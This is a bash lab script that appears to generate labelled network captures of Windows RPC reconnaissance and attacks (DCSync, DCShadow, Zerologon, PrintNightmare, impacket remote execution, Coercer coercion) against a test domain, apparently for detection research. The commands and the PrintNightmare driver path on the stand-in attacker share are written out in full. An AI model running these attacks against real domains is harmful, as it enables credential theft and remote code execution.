# Attacks on RPC services that coerce nothing, and what looks around before: one function, one capture.

AS_ADMIN="$DOMAIN/Administrator:$ADMIN_PW"
AS_USER="$DOMAIN/$ALICE:$ALICE_PW"
ON_DC=(malicious=yes attacker=$EVIL victim=$DC)
ON_SRV=(malicious=yes attacker=$EVIL victim=$SRV)

stimulus() { on_evil "$IMPACKET/python" "$HERE/recon.py" "$@"; }

# simple NAME NOTES TOOLS FAMILY ROLES-ARRAY LABEL... -- COMMAND...
simple() {
  local name=$1 notes=$2 tools=$3 family=$4 roles=$5[@] labels=()
  shift 5
  while [ "$1" != -- ]; do labels+=("expect=$1"); shift; done
  shift
  record "$name"
  "$@"
  truth "${!roles}" family="$family" "${labels[@]}" tools="$tools" notes="$notes"
}

# --- looking around

scenario_recon_rpcdump() { simple recon_rpcdump "impacket's rpcdump lists every endpoint of the domain controller over TCP 135." "$IMPACKET_CALL" recon ON_DC recon:epm -- on_evil "$IMPACKET/rpcdump.py" "$AS_USER@$DC"; }
scenario_recon_rpcdump_pipe() { simple recon_rpcdump_pipe "The same over the pipe epmapper." "$IMPACKET_CALL" recon ON_DC recon:epm -- on_evil "$IMPACKET/rpcdump.py" -port 445 "$AS_USER@$DC"; }
scenario_recon_rpcmap() { simple recon_rpcmap "impacket's rpcmap asks port 135 for the interfaces it has (management interface, opnum 0)." "$IMPACKET_CALL" recon ON_DC recon:epm -- on_evil "$IMPACKET/rpcmap.py" "ncacn_ip_tcp:$DC[135]"; }

# Coercer binds port 445 without SO_REUSEADDR: connections of an earlier scenario must be forgotten, which takes a minute.
evil_445_is_free() {
  local _
  for _ in $(seq 70); do
    [ -n "$(ip netns exec ${NS}evil ss -tanH sport = :445)" ] || return 0
    sleep 1
  done
  fail 'port 445 of the attacker is still taken'
}

scenario_recon_coercer_scan() {
  callback_with impacket
  evil_445_is_free
  record recon_coercer_scan
  in_host evil timeout 200 "$COERCER/coercer" scan -u "$ALICE" -p "$ALICE_PW" -d $DOMAIN -t $SRV --auth-type smb \
    --filter-transport-name msrpc --filter-method-name EfsRpcEncryptFileSrv --ip-address $EVIL > "$RUN/coercer.log" 2>&1 || true
  truth "${COERCED_HERE[@]}" family=recon expect=recon:pipes expect=coercion:efsr tools="$COERCER_CALL" \
    notes="Coercer's scan mode: which pipes and interfaces are there, then one call a method with itself as the listener."
}

scenario_recon_coercer_scan_dc() {
  evil_445_is_free
  record recon_coercer_scan_dc
  in_host evil timeout 200 "$COERCER/coercer" scan -u "$ALICE" -p "$ALICE_PW" -d $DOMAIN -t $DC --auth-type smb \
    --filter-transport-name msrpc --ip-address $EVIL > "$RUN/coercer.log" 2>&1 || true
  truth "${ON_DC[@]}" family=recon outcome=refused expect=recon:pipes expect=coercion:dfsnm expect=coercion:even tools="$COERCER_CALL" \
    notes="Coercer's scan mode at a real Samba domain controller: pipes open or not, interfaces rejected, calls refused."
}
scenario_recon_pipes() {
  record recon_pipes
  in_host evil "$IMPACKET/python" "$HERE/recon.py" pipes $SRV > "$RUN/call.log" 2>&1 || true
  truth "${ON_SRV[@]}" family=recon expect=recon:pipes tools="$IMPACKET_CALL" \
    notes="Every pipe with a coercible interface is opened and bound, one after another, and nothing is called."
}

scenario_recon_efs_wakeup() { simple recon_efs_wakeup "The endpoint mapper is asked for the EFS service, which starts it, and nothing follows." "$IMPACKET_CALL" recon ON_SRV recon:efs-wakeup -- stimulus wakeup "$SRV"; }
scenario_recon_efs_wakeup_dc() { simple recon_efs_wakeup_dc "The same at a server that has no such service: the answer is that it is not registered." "$IMPACKET_CALL" recon ON_DC recon:efs-wakeup -- stimulus wakeup "$DC"; }

scenario_recon_alive_sweep() { simple recon_alive_sweep "ServerAlive2 at every address: which interfaces has the host. One answers, one rejects the interface, the others are closed." "$IMPACKET_CALL" recon ON_SRV recon:oxid -- stimulus alive $DC $SRV $FILES $CA $PROXY $WS1 $WS2 $GW; }
scenario_recon_alive_two() { simple recon_alive_two "ServerAlive2 at the domain controller and a member." "$IMPACKET_CALL" recon ON_SRV recon:oxid -- stimulus alive $SRV $DC; }
scenario_recon_alive_one() { simple recon_alive_one "ServerAlive2 at one host, three times." "$IMPACKET_CALL" recon ON_SRV recon:oxid -- stimulus alive $SRV $SRV $SRV; }

# --- attacks

scenario_dcsync_object() { simple dcsync_object "DRSGetNCChanges for one account from a host that is no domain controller, as an administrator." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcsync -- stimulus replica "ncacn_ip_tcp:$DC" Administrator object; }
scenario_dcsync_denied() { simple dcsync_denied "The same as an ordinary user: refused." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcsync -- stimulus replica "ncacn_ip_tcp:$DC" "$ALICE" object; }
scenario_dcsync_pipe() { simple dcsync_pipe "The same over the pipe lsass, where a domain controller offers it too." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcsync -- stimulus replica "ncacn_np:$DC[\\pipe\\lsass]" Administrator object; }
scenario_dcshadow_admin() { simple dcshadow_admin "DRSAddEntry from a host that is no domain controller, as an administrator, with nothing to add." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcshadow -- stimulus replica "ncacn_ip_tcp:$DC" Administrator add; }
scenario_dcshadow_user() { simple dcshadow_user "DRSAddEntry as an ordinary user." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcshadow -- stimulus replica "ncacn_ip_tcp:$DC" "$ALICE" add; }

scenario_dcshadow_pipe() { simple dcshadow_pipe "DRSAddEntry over the pipe lsass." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcshadow -- stimulus replica "ncacn_np:$DC[\\pipe\\lsass]" Administrator add; }

scenario_zerologon_tcp() { simple zerologon_tcp "Challenge and Authenticate3 with a zero credential, forty times on new connections over TCP. The server refuses." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:zerologon -- stimulus netlogon "ncacn_ip_tcp:$DC" 40; }
scenario_zerologon_pipe() { simple zerologon_pipe "The same over the pipe netlogon, twelve times." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:zerologon -- stimulus netlogon "ncacn_np:$DC[\\pipe\\netlogon]" 12; }
scenario_zerologon_auth2() { simple zerologon_auth2 "The same with the older Authenticate2." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:zerologon -- stimulus netlogon "ncacn_ip_tcp:$DC" 25 2; }

DRIVER="\\\\$EVIL\\share\\driver.dll"
scenario_printnightmare_pipe() { simple printnightmare_pipe "RpcAddPrinterDriverEx with a file on the attacker's share, over a pipe: refused." "$IMPACKET_CALL" rpc-attack ON_SRV rpc-attack:printnightmare -- stimulus driver "ncacn_np:$SRV[\\pipe\\spoolss]" "$DRIVER"; }
scenario_printnightmare_tcp() { simple printnightmare_tcp "The same over TCP." "$IMPACKET_CALL" rpc-attack ON_SRV rpc-attack:printnightmare -- stimulus driver "ncacn_ip_tcp:$SRV[$DYNAMIC_PORT]" "$DRIVER" 2; }
scenario_printnightmare_sealed() { simple printnightmare_sealed "The same with privacy: the opnum shows, the path does not." "$IMPACKET_CALL" rpc-attack ON_SRV rpc-attack:printnightmare -- stimulus driver "ncacn_ip_tcp:$SRV[$DYNAMIC_PORT]" "$DRIVER" 6; }
scenario_printnightmare_samba() { simple printnightmare_samba "The same at Samba's own spooler on the domain controller." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:printnightmare -- stimulus driver "ncacn_np:$DC[\\pipe\\spoolss]" "$DRIVER"; }

scenario_exec_smbexec() { simple exec_smbexec "impacket's smbexec: a service is to be created over svcctl. Samba does not run it." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:remote-exec -- on_evil "$IMPACKET/smbexec.py" -share sysvol "$AS_ADMIN@$DC"; }
scenario_exec_service() { simple exec_service "impacket's services creates a service over svcctl." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:remote-exec -- on_evil "$IMPACKET/services.py" "$AS_ADMIN@$DC" create -name labsvc -display labsvc -path 'C:\lab.exe'; }
scenario_exec_atexec() { simple exec_atexec "impacket's atexec registers a task on the pipe atsvc, with privacy." "$IMPACKET_CALL" rpc-attack ON_SRV rpc-attack:remote-exec -- on_evil "$IMPACKET/atexec.py" "$AS_ADMIN@$SRV" whoami; }
scenario_exec_psexec() {
  simple exec_psexec "impacket's psexec: looks for a share to write to, then svcctl." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:remote-exec -- on_evil "$IMPACKET/psexec.py" "$AS_ADMIN@$DC" whoami
  shows 'svcctl.opnum == 12'
}
